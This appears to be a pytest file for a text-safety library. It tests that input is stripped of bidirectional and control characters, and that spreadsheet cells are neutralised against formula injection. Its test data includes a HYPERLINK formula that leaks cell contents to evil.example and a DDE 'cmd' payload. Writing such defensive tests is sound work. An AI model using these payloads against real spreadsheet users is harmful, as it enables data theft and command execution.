"""Text normalised on the way in; spreadsheet formulas neutralised on the way out."""

import csv
import io
import unicodedata

import pytest

from textsafety.normalise import normalise_input
from textsafety.spreadsheet import neutralise_cell, safe_writer


@pytest.mark.parametrize(
    "char",
    ["\u202e", "\u202a", "\u202b", "\u202c", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e",
     "\u200f", "\u061c", "\x1b", "\x00", "\x07", "\x7f", "\x9b", "\u200b", "\ufeff"],
)  # fmt: skip
def test_control_and_bidirectional_characters_are_removed(char):
    assert normalise_input(f"Mon avis{char} est clair") == "Mon avis est clair"


def test_newlines_and_tabs_are_kept_and_carriage_returns_become_newlines():
    assert (
        normalise_input("ligne 1\r\nligne 2\rligne 3\u2028fin\tici") == "ligne 1\nligne 2\nligne 3\nfin\tici"
    )


def test_text_is_nfc_and_keeps_emoji_joiners():
    decomposed = "de\u0301ja\u0300"  # déjà typed with combining accents
    assert normalise_input(decomposed) == "déjà"
    assert unicodedata.is_normalized("NFC", normalise_input(decomposed))
    family = "👩\u200d👩\u200d👧"
    assert normalise_input(family) == family


def test_a_reversed_extension_shows_what_it_holds():
    # "photo‮gpj.exe" displays as "photoexe.jpg"; stored without the override it reads as it is.
    assert normalise_input("photo\u202egpj.exe") == "photogpj.exe"


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+33 6 12", "-2+3", "@SUM(A1:A2)", "\t=1+1",
     "\r=1+1", ' =1+1', "'=1+1", '"=1+1'],
)  # fmt: skip
def test_cells_a_spreadsheet_would_run_get_a_leading_quote(cell):
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("value", ["Texte ordinaire", "", "12", "a=b", "[email]"])
def test_ordinary_cells_are_unchanged(value):
    assert neutralise_cell(value) == value


def test_numbers_stay_numbers():
    assert neutralise_cell(-3) == -3
    assert neutralise_cell(-0.5) == -0.5
    assert neutralise_cell(None) is None


def test_the_safe_writer_writes_every_row_through_the_rule():
    buffer = io.StringIO()
    writer = safe_writer(buffer, lineterminator="\n")
    writer.writerow(["id", "text"])
    writer.writerows([[1, "=cmd|' /C calc'!A0"], [-2, "ok"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["id", "text"], ["1", "'=cmd|' /C calc'!A0"], ["-2", "ok"]]
